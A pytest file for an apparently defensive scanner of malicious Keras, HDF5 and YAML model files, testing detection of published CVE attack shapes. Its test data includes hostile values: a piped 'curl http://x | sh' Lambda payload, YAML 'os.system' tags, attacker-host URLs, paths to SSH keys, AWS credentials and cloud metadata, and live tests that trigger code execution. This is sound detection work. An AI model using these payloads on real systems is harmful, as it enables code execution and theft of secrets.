"""Keras: .keras archives, bare config JSON, legacy HDF5, and the static marshal reader for Lambda code.

Benign fixtures are real files saved by Keras 3 and tf.keras (``tests/assets/make_keras.py``); malicious
ones reproduce each published attack's config shape. Every attack class has a test that fails when its
detection is removed; malformed inputs must end as ``error`` results with a clear message.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from _support import load_asset_module

import mlvet.formats.keras as keras_fmt
from mlvet.analysis import pycode
from mlvet.analysis.pycode import CodeInfo, MarshalError, code_names, code_strings, read_marshal
from mlvet.model import FileResult, Severity, Status
from mlvet.policy import default_policy
from mlvet.scanner import scan_file

ASSETS = Path(__file__).resolve().parents[1] / "assets"
FIXTURES = ASSETS / "keras"
MANIFEST = json.loads((FIXTURES / "MANIFEST.json").read_text())["files"]


_load = load_asset_module


mk: Any = _load("make_keras")
h5py = pytest.importorskip("h5py")


def scan(path: Path | str) -> FileResult:
    return scan_file(str(path), default_policy())


def worst(result: FileResult, rule: str) -> Severity:
    return max((f.severity for f in result.findings if f.rule_id == rule), default=Severity.NONE)


def finding(result: FileResult, rule: str) -> Any:
    return next(f for f in result.findings if f.rule_id == rule)


# ---- every fixture against its manifest entry ------------------------------------------------------


@pytest.mark.parametrize("rel", sorted(MANIFEST))
def test_fixture_matches_manifest(rel: str) -> None:
    expected = MANIFEST[rel]
    result = scan(FIXTURES / rel)
    assert result.status.value == expected["status"], (result.status, result.errors)
    for rule, sev in expected["rules"].items():
        assert worst(result, rule) >= Severity.parse(sev), (rule, [(f.rule_id, f.severity) for f in result.findings])
    unexpected = [f for f in result.findings if f.rule_id not in expected["rules"] and f.severity >= Severity.MEDIUM]
    assert not unexpected, [(f.rule_id, f.message) for f in unexpected]


@pytest.mark.parametrize("rel", sorted(r for r in MANIFEST if r.startswith("benign/")))
def test_benign_real_files_have_nothing_above_their_expected_medium(rel: str) -> None:
    """Real saved models: nothing at medium or above unless the manifest says why; only Lambda bytecode
    (code that really runs on load: the gray set) is above medium."""
    result = scan(FIXTURES / rel)
    assert not result.errors
    expected = MANIFEST[rel]["rules"]
    for f in result.findings:
        if f.severity >= Severity.MEDIUM:
            assert f.rule_id in expected and f.severity <= Severity.parse(expected[f.rule_id]), (f.rule_id, f.message)
        if f.severity > Severity.MEDIUM:
            assert f.rule_id == "KER400", f.message


def test_formats_are_recognised_by_content(tmp_path: Path) -> None:
    for src, fmt in (("benign/k3_sequential.keras", "keras"), ("benign/k3_sequential.h5", "keras-h5"),
                     ("benign/k3_sequential.weights.h5", "hdf5"), ("benign/k3_folder/config.json", "keras-config")):
        renamed = tmp_path / f"renamed_{Path(src).name}.bin"
        renamed.write_bytes((FIXTURES / src).read_bytes())
        assert fmt in scan(renamed).formats_seen
    weights = scan(FIXTURES / "benign/k3_sequential.weights.h5")
    assert weights.format == "hdf5" and weights.status is Status.SCANNED and "keras-h5" not in weights.formats_seen


# ---- attack classes (each fails if its detection is removed) ---------------------------------------


def test_cve_2024_3660_lambda_bytecode_keras3_reports_names_and_consts() -> None:
    r = scan(FIXTURES / "malicious/lambda_os_system.keras")
    f = finding(r, "KER400")
    assert f.severity is Severity.CRITICAL
    assert "Lambda 'evil'" in f.message
    assert "names [__import__, system]" in f.evidence and "touch /tmp/mlvet_keras_poc" in f.evidence


def test_cve_2025_9905_h5_lambda_list_form() -> None:
    r = scan(FIXTURES / "malicious/lambda_os_system.h5")
    assert worst(r, "KER400") is Severity.CRITICAL
    assert finding(r, "KER400").location.members == ("model_config",)


def test_lambda_hidden_behind_getattr_and_string_building() -> None:
    r = scan(FIXTURES / "malicious/lambda_getattr.keras")
    assert worst(r, "KER400") is Severity.CRITICAL
    assert "getattr" in finding(r, "KER400").message


def test_lambda_with_command_strings_only_is_high() -> None:
    assert worst(scan(FIXTURES / "malicious/lambda_command_string.keras"), "KER400") is Severity.HIGH


def test_benign_lambda_is_medium_with_evidence() -> None:
    f = finding(scan(FIXTURES / "benign/k3_lambda.keras"), "KER400")
    assert f.severity is Severity.MEDIUM and "consts [2]" in f.evidence


def test_cve_2025_1550_module_imports() -> None:
    for name, target in (("module_os_system", "os.system"), ("module_builtins_exec", "builtins.exec"),
                         ("module_subprocess_popen", "subprocess.Popen")):
        f = finding(scan(FIXTURES / f"malicious/{name}.keras"), "KER401")
        assert f.severity is Severity.CRITICAL and target in f.message, (name, f.message)


def test_tf_keras_lambda_function_by_module_name() -> None:
    assert worst(scan(FIXTURES / "malicious/lambda_function_os.h5"), "KER401") is Severity.CRITICAL


def test_cve_2025_8747_get_file_gadget() -> None:
    f = finding(scan(FIXTURES / "malicious/get_file.keras"), "KER401")
    assert "keras.utils.get_file" in f.message and f.severity is Severity.CRITICAL


def test_cve_2025_9906_enable_unsafe_deserialization() -> None:
    r = scan(FIXTURES / "malicious/enable_unsafe_then_lambda.keras")
    assert worst(r, "KER403") is Severity.CRITICAL
    assert "enable_unsafe_deserialization" in finding(r, "KER403").message
    assert worst(r, "KER400") is Severity.CRITICAL


def test_safe_mode_flip_through_global_state_and_load_model() -> None:
    r = scan(FIXTURES / "malicious/set_global_attribute.keras")
    messages = " ".join(f.message for f in r.findings if f.rule_id == "KER403")
    assert "set_global_attribute" in messages and "safe_mode=False" in messages
    assert "keras.models.load_model" in finding(r, "KER401").message


def test_lambda_nested_in_submodels() -> None:
    f = finding(scan(FIXTURES / "malicious/nested_model_lambda.keras"), "KER400")
    assert f.severity is Severity.CRITICAL and "layers[0].config.layers[1]" in f.evidence


def test_duplicate_keys_reported_and_shadowed_values_analysed(tmp_path: Path) -> None:
    r = scan(FIXTURES / "malicious/duplicate_key.keras")
    assert worst(r, "KER405") is Severity.MEDIUM and worst(r, "KER400") is Severity.CRITICAL
    # The payload in the *shadowed* (first) value is analysed too, for readers where the first key wins.
    text = ('{"class_name": "Functional", "config": {"layers": '
            + json.dumps([mk.lambda_layer("first", mk.keras3_lambda(mk.EVIL_LAMBDA))])
            + ', "layers": []}}')
    p = tmp_path / "shadow.keras"
    mk.write_keras(p, text)
    r = scan(p)
    assert worst(r, "KER400") is Severity.CRITICAL and "<shadowed 'layers'>" in finding(r, "KER400").evidence


def test_tfoplambda_and_training_config_gadgets() -> None:
    assert "tf.io.write_file" in finding(scan(FIXTURES / "malicious/tfoplambda_write_file.h5"), "KER401").message
    f = finding(scan(FIXTURES / "malicious/training_config_loss.h5"), "KER401")
    assert f.location.members == ("training_config",)


def test_external_resources() -> None:
    assert worst(scan(FIXTURES / "malicious/tfsmlayer.keras"), "KER404") is Severity.HIGH
    assert worst(scan(FIXTURES / "malicious/vocabulary_path.keras"), "KER404") is Severity.HIGH


@pytest.mark.parametrize(("cls", "path"), [("stringlookup", "/etc/passwd"), ("integerlookup", "/proc/self/environ"),
                                          ("textvectorization", "/root/.ssh/id_rsa")])
def test_cve_2025_12058_lookup_vocabulary_from_a_local_absolute_path_is_high(cls: str, path: str) -> None:
    """The advisory's PoC: a real Keras archive whose lookup layer's vocabulary was edited to a local path."""
    f = finding(scan(FIXTURES / f"malicious/cve_2025_12058_{cls}.keras"), "KER404")
    assert f.severity is Severity.HIGH
    assert path in f.evidence and "CVE-2025-12058" in f.message


@pytest.mark.parametrize(("vocabulary", "expected"), [
    ("vocab.txt", Severity.LOW),                       # the loader's own working folder
    ("data/../../../etc/shadow", Severity.HIGH),       # walks out
    ("~/.aws/credentials", Severity.HIGH),
    ("C:\\Users\\me\\secrets.txt", Severity.HIGH),
    ("gs://attacker-bucket/v.txt", Severity.HIGH),      # SSRF through tf.io.gfile
    ("http://169.254.169.254/latest/meta-data/", Severity.HIGH),
    (".ssh/id_rsa", Severity.HIGH),                    # relative, but names a secret
    (None, Severity.NONE),                             # Keras 3.12+: the vocabulary is an in-archive asset
    (["a", "b"], Severity.NONE),                       # inline vocabulary
])
def test_vocabulary_paths_are_ranked_by_where_they_lead(tmp_path: Path, vocabulary: Any, expected: Severity) -> None:
    p = tmp_path / "lookup.keras"
    mk.write_keras(p, mk.functional([mk.input_layer(), mk.layer(
        "StringLookup", {"name": "lookup", "vocabulary": vocabulary}, inbound=[{"args": [mk.kt("x")], "kwargs": {}}])]))
    assert worst(scan(p), "KER404") is expected


def test_keras_hub_tokenizer_vocabulary_path_is_high(tmp_path: Path) -> None:
    p = tmp_path / "tokenizer.json"
    p.write_text(json.dumps({"module": "keras_hub.src.tokenizers.word_piece_tokenizer",
                             "class_name": "WordPieceTokenizer",
                             "config": {"name": "tok", "vocabulary": "/home/victim/.netrc"},
                             "registered_name": "keras_hub>WordPieceTokenizer"}))
    f = finding(scan(p), "KER404")
    assert f.severity is Severity.HIGH and "/home/victim/.netrc" in f.evidence


def test_registered_custom_objects_are_low_and_say_why() -> None:
    """Real Keras 3 / tf.keras saves with registered, __main__ and package custom objects: low, no code."""
    for rel in ("benign/k3_custom_objects.keras", "benign/k3_subclassed.keras", "benign/tfk_custom.h5"):
        r = scan(FIXTURES / rel)
        found = [f for f in r.findings if f.rule_id == "KER402"]
        assert found and all(f.severity is Severity.LOW for f in found), rel
        assert all("the file carries no code" in f.message for f in found)
    names = {f.evidence for f in scan(FIXTURES / "benign/k3_custom_objects.keras").findings}
    assert any("acme>MyLoss" in e for e in names) and any("Custom>swishy" in e for e in names)


def test_known_gadgets_stay_critical_next_to_registered_names(tmp_path: Path) -> None:
    p = tmp_path / "mixed.keras"
    mk.write_keras(p, mk.functional([
        mk.input_layer(),
        mk.layer("Act", {"name": "act"}, module=None, registered="acme>Act",
                 inbound=[{"args": [mk.kt("x")], "kwargs": {}}]),
        mk.lambda_layer("dl", mk.fn_ref("keras.utils", "get_file"), src="act"),
        mk.lambda_layer("ex", {"module": "builtins", "class_name": "function", "config": "exec",
                               "registered_name": "function"}, src="dl"),
        mk.layer("get_file", {"name": "g"}, module=None, registered="acme>get_file",
                 inbound=[{"args": [mk.kt("ex")], "kwargs": {}}]),
    ]))
    r = scan(p)
    assert worst(r, "KER401") is Severity.CRITICAL
    sev = {f.evidence.split(": ", 1)[0]: f.severity for f in r.findings if f.rule_id in ("KER401", "KER402")}
    assert sev["config.layers[1]"] is Severity.LOW  # acme>Act
    assert sev["config.layers[2].config.function"] is Severity.CRITICAL  # keras.utils.get_file
    assert sev["config.layers[3].config.function"] is Severity.CRITICAL  # builtins.exec
    assert sev["config.layers[4]"] is Severity.CRITICAL  # a registered name that is a gadget's name


@pytest.mark.parametrize(("module", "config", "expected"), [
    ("acme_layers", {"name": "s", "k": 2.0}, Severity.LOW),                     # a package's custom layer
    ("__main__", {"name": "p"}, Severity.LOW),                                  # the saving script's class
    ("functools", {"name": "p"}, Severity.MEDIUM),                              # stdlib: never a Keras layer
    ("pexpect_like_pkg", {"name": "s", "command": "touch /tmp/x"}, Severity.HIGH),  # CVE-2025-1550 shape
    ("acme_layers", {"name": "s", "url": "https://attacker.example/p"}, Severity.HIGH),
    ("acme_layers", {"name": "cat sat"}, Severity.LOW),                         # layer names are free text
])
def test_module_qualified_objects_are_ranked_by_origin_and_arguments(
    tmp_path: Path, module: str, config: dict[str, Any], expected: Severity
) -> None:
    p = tmp_path / "m.keras"
    mk.write_keras(p, mk.functional([mk.input_layer(), mk.layer(
        "Thing", config, module=module, inbound=[{"args": [mk.kt("x")], "kwargs": {}}])]))
    assert worst(scan(p), "KER402") is expected


def test_main_module_name_of_a_process_function_is_not_low(tmp_path: Path) -> None:
    p = tmp_path / "m.keras"
    mk.write_keras(p, mk.functional([mk.input_layer(), mk.lambda_layer("l", mk.fn_ref("__main__", "system"))]))
    assert worst(scan(p), "KER402") is Severity.MEDIUM


def test_lambda_bytecode_in_legacy_hdf5_is_high_even_when_benign() -> None:
    """Legacy HDF5 loading runs Lambda bytecode whatever safe_mode says (CVE-2025-9905); .keras stays medium."""
    for rel in ("benign/k3_lambda.h5", "benign/tfk_lambda.h5"):
        f = finding(scan(FIXTURES / rel), "KER400")
        assert f.severity is Severity.HIGH and "CVE-2025-9905" in f.message
    assert worst(scan(FIXTURES / "benign/k3_lambda.keras"), "KER400") is Severity.MEDIUM


@pytest.mark.parametrize(("rel", "rule", "text"), [
    ("malicious/cve_2026_1669_external_storage.keras", "KER407", "/etc/passwd"),
    ("malicious/h5_virtual_dataset.keras", "KER407", "/home/victim/secret.h5:data"),
    ("malicious/h5_external_link.h5", "KER407", "/home/victim/secret.h5:/model_weights"),
    ("malicious/h5_shape_bomb.keras", "KER408", "68719476736 bytes"),
])
def test_hdf5_weights_that_read_host_files_or_bomb_memory_are_high(rel: str, rule: str, text: str) -> None:
    """CVE-2026-1669 family: the weights file (inside .keras or a legacy .h5) makes loading read host files."""
    r = scan(FIXTURES / rel)
    f = finding(r, rule)
    assert f.severity is Severity.HIGH and text in f.evidence
    assert r.status is Status.SCANNED


def test_hdf5_external_storage_in_a_compressed_keras_member_is_still_found(tmp_path: Path) -> None:
    """A deflated weights member goes through the generic (spooled) member scan: same audit."""
    src = FIXTURES / "malicious/cve_2026_1669_external_storage.keras"
    p = tmp_path / "deflated.keras"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info), compress_type=zipfile.ZIP_DEFLATED)
    assert worst(scan(p), "KER407") is Severity.HIGH


def test_pytables_object_rows_are_analysed_as_pickles() -> None:
    r = scan(FIXTURES / "malicious/pytables_object_atom.h5")
    assert worst(r, "PKL100") is Severity.CRITICAL
    assert finding(r, "PKL100").location.members == ("/obj[0]",)
    benign = scan(FIXTURES / "benign/pandas_fixed.h5")  # pandas' fixed format pickles an object column
    assert worst(benign, "KER409") is Severity.LOW and benign.severity is Severity.LOW


def test_hdf5_audit_never_follows_links_or_reads_weights(tmp_path: Path) -> None:
    """Links to files that do not exist are reported, not opened (opening would fail or read them)."""
    p = tmp_path / "links.h5"
    with h5py.File(p, "w") as f:
        f.create_dataset("w", data=[1.0, 2.0])
        f["soft"] = h5py.SoftLink("/w")
        f["dangling"] = h5py.SoftLink("/nowhere")
        f["ext"] = h5py.ExternalLink(str(tmp_path / "missing.h5"), "/x")
    r = scan(p)
    assert r.status is Status.SCANNED, r.errors
    assert [f.rule_id for f in r.findings if f.severity >= Severity.MEDIUM] == ["KER407"]


def test_hdf5_link_limit_fails_closed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import mlvet.formats.hdf5_audit as audit

    monkeypatch.setattr(audit, "MAX_LINKS", 3)
    p = tmp_path / "many.h5"
    with h5py.File(p, "w") as f:
        for i in range(5):
            f.create_group(f"g{i}")
    _error(scan(p), "not fully audited")


def test_cve_2021_37678_yaml_python_tags_are_critical() -> None:
    r = scan(FIXTURES / "malicious/cve_2021_37678_model.yaml")
    found = {f.evidence.split(": ", 1)[1]: f.severity for f in r.findings if f.rule_id == "KER410"}
    assert found == {"python/object/new:type": Severity.CRITICAL, "python/name:exec": Severity.CRITICAL}


@pytest.mark.parametrize(("text", "expected"), [
    ("a: !!python/object/apply:os.system ['id']\n", Severity.CRITICAL),
    ("a: !<tag:yaml.org,2002:python/object/apply:subprocess.call> [['id']]\n", Severity.CRITICAL),
    ("%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\na: !p!os.system ['id']\n", Severity.CRITICAL),
    ("a: !!python/object/apply:os.sy%73tem ['id']\n", Severity.CRITICAL),       # URI escapes, as PyYAML reads
    ("- !!python/object/new:acme.Thing {x: 1}\n", Severity.HIGH),              # any construction is a call
    ("a: !!python/name:acme.helpers\n", Severity.MEDIUM),                      # an import only
    ("shape: !!python/tuple [3, 3]\nname: !!python/str x\n", Severity.NONE),   # data tags (Keras to_yaml)
    ("msg: \"!!python/object/apply:os.system\"\n# !!python/object/apply:os.system\n", Severity.NONE),
])
def test_yaml_python_tags_ranked_by_what_unsafe_load_does(tmp_path: Path, text: str, expected: Severity) -> None:
    p = tmp_path / "config.txt"  # whatever the extension
    p.write_text(text)
    assert worst(scan(p), "KER410") is expected


def test_yaml_with_python_tags_is_still_read_by_the_other_handlers(tmp_path: Path) -> None:
    """An MLmodel carrying a tag: the tag is reported and MLflow's reader still sees the file."""
    p = tmp_path / "MLmodel"
    p.write_text("artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
                 "    env: !!python/object/apply:os.system ['id']\n")
    r = scan(p)
    assert worst(r, "KER410") is Severity.CRITICAL
    assert "mlflow-mlmodel" in r.formats_seen


def test_torch_module_wrapper_pickle_is_scanned() -> None:
    r = scan(FIXTURES / "malicious/torch_wrapper_pickle.keras")
    assert worst(r, "KER406") is Severity.MEDIUM and worst(r, "PKL100") is Severity.CRITICAL
    benign = scan(FIXTURES / "benign/k3_torch_wrapper.keras")
    assert worst(benign, "KER406") is Severity.MEDIUM
    assert all(f.severity < Severity.MEDIUM for f in benign.findings if f.rule_id != "KER406")


def test_bare_config_json_and_escaped_keys() -> None:
    assert worst(scan(FIXTURES / "malicious/folder_model/config.json"), "KER400") is Severity.CRITICAL
    assert worst(scan(FIXTURES / "malicious/escaped_keys_config.json"), "KER401") is Severity.CRITICAL


def test_hdf5_user_block_polyglot() -> None:
    """pickle.load / torch.load read the user block; h5py skips it: both readings are analysed."""
    r = scan(FIXTURES / "malicious/userblock_pickle.h5")
    assert worst(r, "PKL100") is Severity.CRITICAL
    assert "pickle" in r.formats_seen and "keras-h5" in r.formats_seen


def test_hdf5_with_a_zip_appended(tmp_path: Path) -> None:
    p = tmp_path / "poly.h5"
    mk.write_h5(p, {"class_name": "Sequential", "config": {"layers": []}})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", (FIXTURES / "malicious/userblock_pickle.h5").read_bytes()[:58])
    p.write_bytes(p.read_bytes() + buf.getvalue())
    r = scan(p)
    assert worst(r, "PKL100") is Severity.CRITICAL and "zip" in r.formats_seen


def test_tar_holding_an_hdf5_at_a_user_block_offset(tmp_path: Path) -> None:
    """A tar whose first member is an .h5 has the HDF5 signature at 512: the tar is still read as a tar."""
    import tarfile

    h5 = tmp_path / "m.h5"
    mk.write_h5(h5, {"class_name": "Sequential", "config": {"layers": []}})
    evil = tmp_path / "evil.pkl"
    evil.write_bytes((FIXTURES / "malicious/userblock_pickle.h5").read_bytes()[:58])
    t = tmp_path / "bundle.tar"
    with tarfile.open(t, "w", format=tarfile.USTAR_FORMAT) as tf:
        tf.add(h5, "m.h5")
        tf.add(evil, "evil.pkl")
    r = scan(t)
    assert worst(r, "PKL100") is Severity.CRITICAL and "tar" in r.formats_seen


def test_data_after_hdf5_end_is_scanned(tmp_path: Path) -> None:
    p = tmp_path / "tail.h5"
    mk.write_h5(p, {"class_name": "Sequential", "config": {"layers": []}})
    evil = (FIXTURES / "malicious/userblock_pickle.h5").read_bytes()[:58]
    p.write_bytes(p.read_bytes() + evil)
    r = scan(p)
    assert worst(r, "PKL100") is Severity.CRITICAL
    assert finding(r, "PKL100").location.members == ("<bytes after the HDF5 data>",)


@pytest.mark.parametrize("version", sorted(p.stem for p in (FIXTURES / "marshal").glob("py*.json")))
def test_lambda_bytecode_of_every_python_version(tmp_path: Path, version: str) -> None:
    """The payload is caught whatever CPython marshalled it (code-object layouts 2.7 and 3.6 - 3.13)."""
    vec = json.loads((FIXTURES / "marshal" / f"{version}.json").read_text())["vectors"]["evil"]
    p = tmp_path / "lam.keras"
    code = {"class_name": "__lambda__", "config": {"code": vec["b64"], "defaults": None, "closure": None}}
    mk.write_keras(p, mk.functional([mk.input_layer(), mk.lambda_layer("evil", code)]))
    f = finding(scan(p), "KER400")
    assert f.severity is Severity.CRITICAL and "system" in f.evidence and "curl http://x | sh" in f.evidence


def test_policy_safe_tier_accepts_a_trusted_custom_package() -> None:
    policy = default_policy().merged({"safe": ["my_pkg:*"]}, "test")
    r = scan_file(str(FIXTURES / "benign/k3_custom.keras"), policy)
    assert not [f for f in r.findings if f.rule_id == "KER402"]


def test_custom_object_outside_keras_is_reported(tmp_path: Path) -> None:
    p = tmp_path / "third_party.keras"
    mk.write_keras(p, mk.functional([mk.input_layer(), mk.layer(
        "FancyLayer", {"name": "fancy"}, module="fancy_pkg.layers", inbound=[{"args": [mk.kt("x")], "kwargs": {}}])]))
    f = finding(scan(p), "KER402")
    assert f.severity is Severity.LOW and "fancy_pkg.layers.FancyLayer" in f.message
    assert "the file carries no code" in f.message


def test_never_unmarshals(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*_: object, **__: object) -> None:
        raise AssertionError("marshal.loads called")

    monkeypatch.setattr(marshal, "loads", boom)
    monkeypatch.setattr(marshal, "load", boom)
    assert worst(scan(FIXTURES / "malicious/lambda_os_system.keras"), "KER400") is Severity.CRITICAL


# ---- malformed input: clear errors, never tracebacks or clean ------------------------------------------


def _error(result: FileResult, *needles: str) -> None:
    assert result.status is Status.ERROR, (result.status, result.findings)
    text = " ".join(result.errors)
    assert "internal error" not in text, text
    for needle in needles:
        assert needle in text, text


def test_truncated_keras_archive(tmp_path: Path) -> None:
    data = (FIXTURES / "benign/k3_sequential.keras").read_bytes()
    p = tmp_path / "cut.keras"
    p.write_bytes(data[: len(data) // 2])
    assert scan(p).status is Status.ERROR


def test_config_not_json(tmp_path: Path) -> None:
    p = tmp_path / "bad.keras"
    mk.write_keras(p, '{"class_name": "Sequential", "config": {')
    _error(scan(p), "config.json is not valid JSON")


def test_config_json_not_an_object(tmp_path: Path) -> None:
    p = tmp_path / "list.keras"
    mk.write_keras(p, "[1, 2, 3]")
    _error(scan(p), "not an object")


def test_config_as_100mb_string(tmp_path: Path) -> None:
    p = tmp_path / "huge.keras"
    with zipfile.ZipFile(p, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("metadata.json", "{}")
        with zf.open("config.json", "w") as f:
            f.write(b'"')
            chunk = b"A" * (1 << 20)
            for _ in range(100):
                f.write(chunk)
            f.write(b'"')
    start = time.monotonic()
    r = scan(p)
    assert time.monotonic() - start < 10
    _error(r, "limit")
    assert any(f.rule_id == "ARC301" for f in r.findings)


def test_deeply_nested_json(tmp_path: Path) -> None:
    p = tmp_path / "deep.keras"
    mk.write_keras(p, '{"class_name": "X", "config": ' + "[" * 200_000 + "]" * 200_000 + "}")
    _error(scan(p), "nests too deeply")
    bare = tmp_path / "deep.json"
    bare.write_text('{"class_name": "X", "config": ' + "{\"a\": " * 100_000 + "1" + "}" * 100_000 + "}")
    _error(scan(bare), "nests too deeply")


def test_marshal_garbage_in_lambda(tmp_path: Path) -> None:
    p = tmp_path / "garbage.keras"
    code = {"class_name": "__lambda__",
            "config": {"code": base64.b64encode(b"\xe3garbage-not-marshal" * 3).decode(), "defaults": None}}
    mk.write_keras(p, mk.functional([mk.input_layer(), mk.lambda_layer("junk", code)]))
    r = scan(p)
    _error(r, "Lambda bytecode could not be decoded")
    assert worst(r, "KER400") is Severity.HIGH


def test_lambda_code_not_base64_uses_raw_escape_like_keras(tmp_path: Path) -> None:
    """Keras' func_load falls back to str.encode('raw_unicode_escape') when base64 fails."""
    outer = compile(mk.EVIL_LAMBDA, "<p>", "eval")
    raw = marshal.dumps(next(c for c in outer.co_consts if hasattr(c, "co_code")))
    text = raw.decode("latin-1")
    assert keras_fmt.decode_lambda_code(text) == raw
    p = tmp_path / "raw.h5"
    mk.write_h5(p, {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {
        "name": "raw", "function": text, "function_type": "lambda"}}]}})
    assert worst(scan(p), "KER400") is Severity.CRITICAL


def test_hdf5_garbage_and_bad_model_config(tmp_path: Path) -> None:
    p = tmp_path / "junk.h5"
    p.write_bytes(keras_fmt.HDF5_MAGIC + os.urandom(2000))
    _error(scan(p), "unreadable HDF5 file")
    q = tmp_path / "badcfg.h5"
    with h5py.File(q, "w") as f:
        f.attrs["model_config"] = "{not json"
    _error(scan(q), "model_config is not valid JSON")
    cut = tmp_path / "cut.h5"
    data = (FIXTURES / "benign/k3_functional.h5").read_bytes()
    cut.write_bytes(data[:1000])
    assert scan(cut).status is Status.ERROR


def test_missing_h5py_is_a_clear_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "h5py", None)
    _error(scan(FIXTURES / "benign/k3_sequential.h5"), "install mlvet[hdf5]")
    # .keras weights are HDF5 too: their structure (external storage, links: CVE-2026-1669) cannot be
    # audited without h5py, so the archive is an error, not clean.
    _error(scan(FIXTURES / "benign/k3_sequential.keras"), "install mlvet[hdf5]")


def test_plain_json_is_not_claimed(tmp_path: Path) -> None:
    p = tmp_path / "data.json"
    p.write_text(json.dumps({"a": [1, 2, 3], "b": {"c": "d"}}))
    r = scan(p)
    assert r.status is Status.SKIPPED and "keras-config" not in r.formats_seen


def test_findings_are_capped(tmp_path: Path) -> None:
    layers = [mk.layer(f"C{i}", {"name": f"c{i}"}, module=f"pkg{i}") for i in range(1000)]
    p = tmp_path / "many.keras"
    mk.write_keras(p, {"class_name": "Sequential", "module": "keras", "config": {"layers": layers}})
    r = scan(p)
    assert len(r.findings) == keras_fmt.MAX_FINDINGS + 1
    assert "further findings" in r.findings[-1].message


# ---- the marshal reader on its own -----------------------------------------------------------------


_LAYOUT = {"py2.7": "py2", "py3.6": "py3.0-3.7", "py3.7": "py3.0-3.7", "py3.8": "py3.8-3.10",
           "py3.9": "py3.8-3.10", "py3.10": "py3.8-3.10", "py3.11": "py3.11+", "py3.12": "py3.11+",
           "py3.13": "py3.11+"}


@pytest.mark.parametrize("path", sorted((FIXTURES / "marshal").glob("py*.json")), ids=lambda p: p.stem)
def test_marshal_vectors(path: Path) -> None:
    for key, vec in json.loads(path.read_text())["vectors"].items():
        code = read_marshal(base64.b64decode(vec["b64"]))
        assert isinstance(code, CodeInfo)
        assert code.layout == _LAYOUT[path.stem], key
        assert code.name == vec["name"]
        assert set(code_names(code)) == set(vec["names"]), key
        assert set(vec["strings"]) <= set(code_strings(code)), key


def test_marshal_values() -> None:
    value = (1, -7, 10**40, 2.5, 1 + 2j, "s", b"b", None, True, False, ..., frozenset({3}), [4], {"k": 5})
    decoded = read_marshal(marshal.dumps(value))
    assert isinstance(decoded, tuple)
    assert decoded[:10] == value[:10]
    assert repr(decoded[10]) == "Ellipsis"
    assert decoded[11:] == (frozenset({3}), [4], {"k": 5})


def test_imports_decoded_only_for_this_interpreter() -> None:
    code = read_marshal(marshal.dumps(compile("import os, subprocess", "<t>", "exec")))
    assert isinstance(code, CodeInfo)
    assert code.imports == ("os", "subprocess")


@pytest.mark.parametrize("data", [
    b"", b"s\xff\xff\xff\x7f", b"(\xff\xff\xff\x7f", b"l\xff\xff\xff\x7f", b"r\x05\x00\x00\x00", b"?", b"\x01",
    b"c" + b"\x00" * 40, b"(\x01\x00\x00\x00" * 1000,
])
def test_marshal_rejects_malformed(data: bytes) -> None:
    with pytest.raises(MarshalError):
        read_marshal(data)


def test_marshal_reference_dag_is_walked_once() -> None:
    buf = bytearray([ord(")") | pycode.FLAG_REF, 0])
    for i in range(60):  # each tuple holds the previous one twice: 2**60 paths
        buf += bytes([ord(")") | pycode.FLAG_REF, 2]) + b"r" + i.to_bytes(4, "little") + b"r" + i.to_bytes(4, "little")
    start = time.monotonic()
    value = read_marshal(bytes(buf))
    assert list(pycode.iter_values(value)) == []
    assert time.monotonic() - start < 1


def test_marshal_fuzz_only_raises_marshal_error() -> None:
    import random

    rng = random.Random(7)
    seeds = [base64.b64decode(v["b64"]) for p in (FIXTURES / "marshal").glob("py*.json")
             for v in json.loads(p.read_text())["vectors"].values()]
    for _ in range(3000):
        data = bytearray(rng.choice(seeds))
        for _ in range(rng.randrange(1, 4)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        if rng.random() < 0.3:
            data = data[: rng.randrange(len(data))]
        try:
            value = read_marshal(bytes(data))
        except MarshalError:
            continue
        if isinstance(value, CodeInfo):
            keras_fmt.judge_code(value)


# ---- live: the real loaders prove the fixtures are real attacks ------------------------------------


def _run_keras(code: str, env_extra: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, KERAS_BACKEND="torch", TF_CPP_MIN_LOG_LEVEL="3", **(env_extra or {}))
    return subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=300,
                          check=False)


@pytest.mark.live
def test_live_keras3_lambda_runs_with_safe_mode_off_and_is_blocked_with_it_on() -> None:
    pytest.importorskip("keras")
    marker = Path(mk.MARKER)
    marker.unlink(missing_ok=True)
    path = FIXTURES / "malicious/lambda_os_system.keras"
    res = _run_keras(f"import keras; keras.saving.load_model({str(path)!r})")
    assert res.returncode != 0 and not marker.exists()  # safe_mode=True refuses the lambda
    res = _run_keras(f"import keras; keras.saving.load_model({str(path)!r}, safe_mode=False)")
    assert marker.exists(), res.stderr[-2000:]
    marker.unlink()


@pytest.mark.live
def test_live_benign_keras3_files_load() -> None:
    pytest.importorskip("keras")
    files = [FIXTURES / "benign" / n for n in ("k3_sequential.keras", "k3_functional.keras", "k3_sequential.h5")]
    res = _run_keras("import keras, sys\nfor p in sys.argv[1:]: keras.saving.load_model(p)\n"
                     .replace("sys.argv[1:]", repr([str(f) for f in files])))
    assert res.returncode == 0, res.stderr[-2000:]


@pytest.mark.live
def test_live_cve_2025_12058_vocabulary_path_is_read_when_loading(tmp_path: Path) -> None:
    """The PoC shape really reads a local file into the model (current Keras: once safe mode is off)."""
    pytest.importorskip("keras")
    pytest.importorskip("tensorflow", reason="Keras' StringLookup layer needs TensorFlow to be rebuilt")
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-TOKEN\n")
    poc = tmp_path / "poc.keras"
    mk._poc_vocabulary(FIXTURES / "malicious/cve_2025_12058_stringlookup.keras", poc, "StringLookup", str(secret))
